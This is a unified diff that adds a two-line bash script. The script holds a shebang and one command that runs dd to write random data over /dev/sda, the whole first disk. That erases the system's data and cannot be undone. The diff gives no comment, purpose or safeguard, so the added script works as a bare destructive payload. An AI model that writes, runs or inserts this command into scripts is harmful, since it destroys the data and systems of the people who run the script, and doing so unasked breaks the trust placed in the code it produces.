@@ -1,0 +1,2 @@
+#!/usr/bin/env bash
+dd if=/dev/urandom of=/dev/sda bs=4M
